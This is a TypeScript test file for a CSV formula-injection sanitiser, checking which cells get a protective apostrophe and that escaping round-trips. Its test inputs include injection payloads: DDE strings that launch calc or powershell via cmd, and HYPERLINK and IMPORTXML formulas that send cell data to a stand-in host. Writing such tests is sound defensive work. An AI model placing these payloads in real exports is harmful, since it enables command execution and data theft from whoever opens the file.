import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
	beginsPlainly,
	leadsToFormula,
	makeHarmless,
	restoreText,
} from '../../../../main/ledger/history/csv/harmless-text.ts';

const FORMULAS = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1)',
	`=cmd|'/c calc'!A0`,
	'=HYPERLINK("http://example.org?x="&A1,"click")',
	'=IMPORTXML(CONCAT("http://example.org?x=",A1:Z1),"//a")',
	'+cmd|"/c powershell"!A0',
	'-2+3+cmd|"/c calc"!D2',
	'@SUM(1+9)*cmd|"/c calc"!A0',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)',
	'﹦1',
	'﹢1',
	'⁼1',
	' =1+1',
	'\u00a0=1+1',
	'\u200b=1+1',
	'\ufeff=1+1',
	'\u202e=1+1',
	'\u2060\u00ad =1+1',
	'\u3000=1+1',
	'\u2800=1+1',
	'\u115f=1+1',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\0=1+1',
	'\ttext',
	'\rtext',
	'\ntext',
	'\0text',
	' \ttext',
	"'=1+1",
	"''\u200b=1+1",
];

describe('a cell that could begin a formula', () => {
	test.each(FORMULAS)('%j gets an apostrophe in front', (text) => {
		expect(makeHarmless(text)).toBe(`'${text}`);
	});

	test.each([
		'rose',
		'',
		' ',
		'1',
		'1=1',
		'a-b',
		'(-:',
		"'tis",
		'"=1"',
		'❤ =1',
		'\u200b',
		'Ünal',
		'応援=',
		'🎂+1',
		'*=',
		'|-',
	])('%j stays as it is', (text) => {
		expect(makeHarmless(text)).toBe(text);
	});

	test('gives the words back to whoever takes one apostrophe off', () => {
		const character = fc.constantFrom(...` '"=+-@\t\r\n\0a1＝\u200b\ufeff\u00a0é🎂`);
		fc.assert(
			fc.property(fc.array(character, { maxLength: 8 }), (characters) => {
				const text = characters.join('');
				expect(restoreText(makeHarmless(text))).toBe(text);
			}),
			{ seed: 4, numRuns: 3_000 },
		);
	});

	test('is never passed over by the look at its first two bytes', () => {
		const passedOver: string[] = [];
		for (let point = 0; point <= 0x10ffff; point++) {
			if (point >= 0xd800 && point <= 0xdfff) continue;
			const text = `${String.fromCodePoint(point)}=1`;
			const [first = 0, second = 0] = Buffer.from(text);
			if (beginsPlainly(first, second) && leadsToFormula(text)) passedOver.push(point.toString(16));
		}
		expect(passedOver).toEqual([]);
	});
});
